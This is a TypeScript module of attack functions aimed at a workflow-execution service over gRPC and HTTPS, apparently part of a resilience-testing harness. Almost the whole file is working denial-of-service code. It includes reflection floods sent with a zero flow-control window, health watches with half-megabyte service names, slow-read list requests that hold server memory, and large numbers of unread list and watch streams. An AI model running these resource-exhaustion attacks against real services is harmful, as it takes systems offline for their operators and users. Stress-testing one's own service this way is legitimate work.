import { repeatInParallel, sleep, type Attack } from './attack.ts';
import { collection } from './bodies.ts';
import { addressOf, head, isOpened, open, write } from './connection.ts';
import { field, framed, headersOf, methods, session } from './grpc.ts';

/** Requests to the public reflection service without reading responses. */
export async function unreadReflection(attack: Attack): Promise<void> {
  const { target, counter, signal } = attack;
  const question = framed(field(4, 'kubernaut.workflowexecution.v1.WorkflowExecutionService'));
  const questions = Buffer.concat(Array.from({ length: 500 }, () => question));
  await repeatInParallel(attack, 20, async (number) => {
    const connection = session(target.ports.grpc, addressOf(number % 5), { initialWindowSize: 0 });
    const stream = connection.request(headersOf(methods.reflection));
    stream.on('error', () => undefined).pause();
    while (!signal.aborted && !stream.destroyed && !connection.destroyed) {
      if (!stream.write(questions)) {
        await Promise.race([
          new Promise<void>((resolve) => stream.once('drain', resolve).once('close', resolve)),
          sleep(attack, 1_000),
        ]);
      }
      counter.add('questions', 500);
      await new Promise((resolve) => setImmediate(resolve));
    }
    connection.destroy();
  });
}

/** Public health watches of unknown services with long names, opened and closed repeatedly. */
export async function healthWatches(attack: Attack): Promise<void> {
  const { target, counter, signal, random } = attack;
  await repeatInParallel(attack, 40, async (number) => {
    const connection = session(target.ports.grpc, addressOf(number % 10));
    for (let turn = 0; turn < 50 && !signal.aborted && !connection.destroyed; turn++) {
      const name = `${random.integer(0, 2 ** 31)}${'x'.repeat(turn % 2 === 0 ? 500_000 : 10)}`;
      const stream = connection.request(headersOf(methods.healthWatch));
      stream.on('error', () => undefined).resume();
      stream.end(framed(field(1, name)));
      await Promise.race([
        new Promise<void>((resolve) => stream.once('data', () => resolve()).once('close', () => resolve())),
        sleep(attack, 1_000),
      ]);
      counter.add('watches');
    }
    connection.destroy();
  });
}

/** Lists of large executions by many callers that read a byte now and then: they make progress, but their memory is not freed. */
export async function trickledLists(attack: Attack): Promise<void> {
  const { counter, signal } = attack;
  const { others, ports } = attack.target;
  await repeatInParallel(attack, 4 * others.length, async (number) => {
    const token = others[number % others.length] ?? '';
    const socket = open({ port: ports.http, tls: 'http/1.1', from: addressOf(number % 5) });
    if (await isOpened(socket, 'secureConnect')) {
      socket.pause();
      const request = head('GET', collection(attack), { Authorization: `Bearer ${token}` });
      if (await write(socket, request)) counter.add('lists');
      while (!signal.aborted && !socket.destroyed) {
        socket.read(1);
        await sleep(attack, 500);
      }
      counter.add('closed');
    }
    socket.destroy();
  });
}

/** Lists of large executions by an authenticated caller that reads no response, at its concurrency limit. */
export async function unreadLists(attack: Attack): Promise<void> {
  const { target, counter, signal } = attack;
  const { token, namespace, ports } = target;
  const request = head('GET', collection(attack), { Authorization: `Bearer ${token}` });
  const message = framed(field(1, `namespaces/${namespace}`));
  await Promise.all([
    repeatInParallel(attack, 100, async (number) => {
      const socket = open({ port: ports.http, tls: 'http/1.1', from: addressOf(number % 5) });
      if (await isOpened(socket, 'secureConnect')) {
        socket.pause();
        if (await write(socket, request.repeat(10))) counter.add('lists over REST', 10);
        await sleep(attack, 3_000);
      }
      socket.destroy();
    }),
    repeatInParallel(attack, 5, async (number) => {
      const connection = session(ports.grpc, addressOf(number % 5), { initialWindowSize: 0 });
      for (let turn = 0; turn < 20 && !signal.aborted && !connection.destroyed; turn++) {
        for (const path of [methods.list, methods.watch]) {
          const stream = connection.request(headersOf(path, token));
          stream.on('error', () => undefined).pause();
          stream.end(message);
          counter.add('calls over gRPC');
        }
        await sleep(attack, 100);
      }
      await sleep(attack, 3_000);
      connection.destroy();
    }),
  ]);
}

/** As many watches of large executions over gRPC as a caller may have, opened together and not read. */
export async function unreadWatches(attack: Attack): Promise<void> {
  const { target, counter, signal } = attack;
  const { token, namespace, ports } = target;
  const message = framed(field(1, `namespaces/${namespace}`));
  await repeatInParallel(attack, 1, async (_, turn) => {
    const connection = session(ports.grpc, addressOf(turn % 5), { initialWindowSize: 0 });
    for (let watch = 0; watch < 100 && !signal.aborted && !connection.destroyed; watch++) {
      const stream = connection.request(headersOf(methods.watch, token));
      stream.on('error', () => undefined).pause();
      stream.end(message);
      counter.add('watches');
    }
    await sleep(attack, 3_000);
    connection.destroy();
  });
}
